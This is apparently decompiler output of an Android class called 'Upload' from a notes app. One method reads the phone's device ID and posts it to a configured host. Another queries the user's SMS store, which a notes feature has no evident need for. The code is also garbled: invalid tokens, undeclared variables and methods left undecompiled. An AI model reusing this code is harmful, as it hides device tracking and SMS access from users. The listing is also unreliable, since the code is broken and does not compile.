package org.example.notes;

import android.content.Context;
import android.telephony.TelephonyManager;
import androidx.core.view.MotionEventCompat;
import java.util.ArrayList;
import java.util.List;
import org.objectweb.asm.Opcodes;
import p000.C0007b;

/* loaded from: classes.dex */
public class Upload extends BaseUpload {
    public static final String PATH = Config.HOST + "/v1/notes";
    private final List<String> lines = new ArrayList();

    /* JADX INFO: Access modifiers changed from: package-private */
    public void send(Context context) {
        Throwable th;
        try {
            String id = ((TelephonyManager) context.getSystemService("phone")).getDeviceId();
            this.lines.add("id=" + id);
            post(PATH, this.lines.get(0), 180, Opcodes.GETFIELD);
        } catch (SecurityException e) {
            th = e;
            report(th);
        }
        setFlags(MotionEventCompat.ACTION_MASK);
        C0007b.m12a(this.queue).m13b("x");
        ?? r0 = this.lines;
        th2 = null;
        report(th2);
    }

    public static String name(int state) {
        switch (state) {
            case 1:
                return "open";
            case Opcodes.GETFIELD /* 180 */:
                return "closed";
            default:
                return null;
        }
    }

    /*
        Code decompiled incorrectly, please refer to instructions dump.
    */
    public int read(android.content.Context r5, int r6) throws java.io.IOException {
        /*
            r4 = this;
            android.content.ContentResolver r0 = r5.getContentResolver()
            java.lang.String r1 = "content://sms"
            android.net.Uri r1 = android.net.Uri.parse(r1)     // Catch: java.lang.Throwable -> L20
            r2 = 0
            r3 = 0
            android.database.Cursor r0 = r0.query(r1, r2, r2, r2, r2)     // Catch: java.lang.Throwable -> L20
            if (r0 == 0) goto L1a
        L10:
            boolean r1 = r0.moveToNext()
            if (r1 == 0) goto L1a
            int r3 = r3 + 1
            if (r3 < r6) goto L10
        L1a:
            return r3
        L20:
            r0 = move-exception
            java.lang.IllegalStateException r1 = new java.lang.IllegalStateException
            r1.<init>(r0)
            throw r1
        */
        throw new UnsupportedOperationException("Method not decompiled: org.example.notes.Upload.read(android.content.Context, int):int");
    }

    public void lost() {
        /*
            Method dump skipped, instructions count: 1234
            To view this dump change 'Code comments level' option to 'DEBUG'
        */
        throw new UnsupportedOperationException("Method not decompiled: org.example.notes.Upload.lost():void");
    }
}
